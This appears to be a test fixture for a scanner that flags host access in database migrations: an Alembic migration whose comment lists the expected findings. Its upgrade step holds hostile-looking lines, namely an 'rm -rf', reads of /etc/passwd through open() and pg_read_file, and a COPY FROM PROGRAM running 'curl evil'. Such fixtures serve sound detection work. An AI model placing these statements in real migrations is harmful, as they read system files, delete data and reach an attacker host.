# finds: host-access:os.system() host-access:subprocess.run() host-access:open() host-access:COPY_..._PROGRAM host-access:pg_read_file()
"""host access bad"""
import sqlalchemy as sa
from alembic import op
import os
import subprocess

revision = "0002"
down_revision = "0001"


def upgrade():
    os.system("rm -rf /tmp/x")
    subprocess.run(["true"])
    rows = open("/etc/passwd").read()
    op.execute("COPY cfg.panels FROM PROGRAM 'curl evil'")
    op.execute("SELECT pg_read_file('/etc/passwd')")


def downgrade():
    raise NotImplementedError
